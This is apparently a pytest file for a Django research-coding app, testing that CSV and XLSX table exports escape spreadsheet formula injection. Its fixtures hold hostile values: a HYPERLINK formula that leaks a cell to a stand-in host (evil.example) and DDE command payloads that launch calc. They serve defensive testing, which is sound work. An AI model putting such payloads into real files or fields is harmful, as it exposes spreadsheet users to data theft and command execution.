"""Every downloaded table escapes what a spreadsheet would run as a formula, headers included.

A case, a code or a coder can be named by anyone who may add one; a name such as
`=HYPERLINK(...)` must arrive in Excel or LibreOffice as text, never as a live formula.
"""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from coding import services
from coding.models import Summary
from coding.tabular import csv_response, xlsx_bytes

from .conftest import make_case, make_membership, make_source, make_user

HOSTILE_CASE = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")'
HOSTILE_CODE = "+cmd|' /C calc'!A0"
HOSTILE_SUB_CODE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CODER = "-2+3"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT = "Pewawancara: Rapat kapan?\n\nIbu Maria: Rapat hanya kalau ada masalah di distrik."


def _unescaped(value) -> bool:
    return isinstance(value, str) and value.lstrip(" ")[:1] in FORMULA_STARTS


@pytest.fixture
def hostile(project, researcher):
    """A case, two codes and a coder with names a spreadsheet would run as formulas."""
    coder = make_user(HOSTILE_CODER)
    make_membership(project, coder)
    case = make_case(project, name=HOSTILE_CASE)
    source = make_source(project, text=TEXT)
    source.cases.add(case)
    code = services.create_code(project=project, name=HOSTILE_CODE)
    sub_code = services.create_code(project=project, name=HOSTILE_SUB_CODE, parent=code)
    passage = "Rapat hanya kalau ada masalah"
    start = TEXT.index(passage)
    for each, who in ((code, researcher), (sub_code, coder)):
        services.apply_code(
            source=source,
            code=each,
            coder=who,
            start=start,
            end=start + len(passage),
            passage=passage,
        )
    Summary.objects.create(
        project=project, code=code, case=case, text="=1+1 di ringkasan", author=researcher
    )
    return case


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("view", ["case", "framework", "kind", "cooccurrence", "coder"])
def test_matrix_csv_escapes_header_and_cells(client, project, supervisor, hostile, view):
    client.force_login(supervisor)
    response = client.get(
        reverse("coding:display", args=[project.slug]), {"view": view, "format": "csv"}
    )
    rows = _csv_rows(response)
    assert [value for row in rows for value in row if _unescaped(value)] == []
    flat = [value for row in rows for value in row]
    # The code's row (a theme: its label may say "(total)") starts with the escaped name.
    assert any(value.strip().startswith("'" + HOSTILE_CODE) for value in flat)
    if view in ("case", "framework"):
        assert "'" + HOSTILE_CASE in rows[0]
    if view == "cooccurrence":
        assert "'" + HOSTILE_CODE in rows[0]
    if view == "coder":
        assert "'" + HOSTILE_CODER in rows[0]


@pytest.mark.parametrize("view", ["case", "framework", "kind", "cooccurrence", "coder"])
def test_matrix_xlsx_has_no_formula_anywhere(client, project, supervisor, hostile, view):
    client.force_login(supervisor)
    response = client.get(
        reverse("coding:display", args=[project.slug]), {"view": view, "format": "xlsx"}
    )
    cells = _xlsx_cells(response)
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if _unescaped(cell.value)] == []
    header = [cell.value for cell in cells if cell.row == 1]
    if view in ("case", "framework"):
        assert "'" + HOSTILE_CASE in header
    if view == "cooccurrence":
        assert "'" + HOSTILE_SUB_CODE in [value.strip() for value in header]


def test_framework_summaries_are_escaped_too(client, project, supervisor, hostile):
    client.force_login(supervisor)
    url = reverse("coding:display", args=[project.slug])
    rows = _csv_rows(client.get(url, {"view": "framework", "format": "csv"}))
    assert "'=1+1 di ringkasan" in [value for row in rows for value in row]


def test_the_shared_writers_escape_headers_and_indented_labels():
    header = ["Code", HOSTILE_CASE, "Total"]
    rows = [["  " + HOSTILE_SUB_CODE, 3, -1]]
    text = csv_response("t", header, rows).content.decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed == [["Code", "'" + HOSTILE_CASE, "Total"], ["'  " + HOSTILE_SUB_CODE, "3", "-1"]]
    sheet = load_workbook(io.BytesIO(xlsx_bytes([("Matrix", header, rows)]))).active
    assert [cell.value for cell in sheet[1]] == ["Code", "'" + HOSTILE_CASE, "Total"]
    assert [cell.value for cell in sheet[2]] == ["'  " + HOSTILE_SUB_CODE, 3, -1]
    assert sheet["A1"].font.bold
